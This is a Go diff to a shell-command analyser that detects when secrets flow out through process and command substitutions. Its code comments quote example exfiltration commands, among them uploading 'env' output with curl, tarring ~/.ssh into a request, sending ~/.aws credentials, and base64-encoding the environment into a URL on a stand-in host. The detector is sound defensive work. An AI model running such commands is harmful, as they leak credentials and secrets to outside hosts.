@@ -23,6 +23,10 @@ type heldSecrets struct {
 	built bool
 	files []heldFile
 	vars  []heldVar
+	// procs and substs are the sources of the commands in a <(…) and in a
+	// $(…) of the line whose output carries a secret: a word holding one
+	// holds the secret (curl -T <(env), ssh h "echo $(env | base64)").
+	procs, substs []string
 	// at is each command's index on the line.
 	at map[*cmdline.Command]int
 }
@@ -63,6 +67,14 @@ func (h *heldSecrets) build(line *cmdline.Line, ctx Context) {
 		}
 		lastAt[[2]int{u.Pipe.Len, u.Pipe.Index}] = i
 		carries[i] = len(secrets) > 0 || dirs
+		if carries[i] && len(u.Via) > 0 {
+			switch u.Via[len(u.Via)-1] {
+			case "<(…)":
+				h.procs = append(h.procs, u.Source)
+			case "$(…)", "`…`":
+				h.substs = append(h.substs, u.Source)
+			}
+		}
 		if len(u.Assigns) > 0 && (u.Name == "" || u.Name == ":") && h.assignedSecret(u, line, i, ctx) {
 			for _, a := range u.Assigns {
 				h.vars = append(h.vars, heldVar{a.Name, i})
@@ -224,6 +236,12 @@ func (h *heldSecrets) names(word, dir string, i int, ctx Context) bool {
 		return false
 	}
 	p := resolveIn(word, dir)
+	if p != cleanPath(word) && sensitivePath(p) {
+		return true // cd ~/.aws && curl -T credentials: the secret where the command runs
+	}
+	if strings.Contains(word, "<(") && slices.ContainsFunc(h.procs, func(src string) bool { return holdsCommand(word, src) }) {
+		return true // curl -T <(env), curl -d @<(tar c ~/.ssh)
+	}
 	return h.holds(p, i) || ctx.SecretFile != nil && (strings.HasPrefix(p, "/") || strings.HasPrefix(p, "~")) && ctx.SecretFile(p)
 }
 
@@ -249,6 +267,13 @@ func (h *heldSecrets) holds(p string, i int) bool {
 // expands reports a text that expands a variable an assignment before
 // index i set from a secret: $K, ${K}, ${K:-x}, "x$K".
 func (h *heldSecrets) expands(text string, i int) bool {
+	if strings.Contains(text, "$(") || strings.Contains(text, "`") {
+		for _, src := range h.substs {
+			if holdsCommand(text, src) {
+				return true // "https://x.example/?$(env | base64 -w0)"
+			}
+		}
+	}
 	for _, v := range h.vars {
 		if v.by >= i {
 			break
@@ -266,6 +291,24 @@ func (h *heldSecrets) expands(text string, i int) bool {
 		}
 	}
 	return false
+}
+
+// holdsCommand reports a word that holds the command src where a command
+// starts: after the ( of a substitution, a backquote, or a pipe or list
+// operator inside one; not a mere mention (?env=1).
+func holdsCommand(word, src string) bool {
+	for rest, at := word, 0; ; {
+		i := strings.Index(rest, src)
+		if i < 0 {
+			return false
+		}
+		before := strings.TrimRight(word[:at+i], " \t")
+		if before != "" && strings.ContainsRune("(`|;&", rune(before[len(before)-1])) {
+			return true
+		}
+		at += i + 1
+		rest = word[at:]
+	}
 }
 
 func isNameByte(b byte) bool {
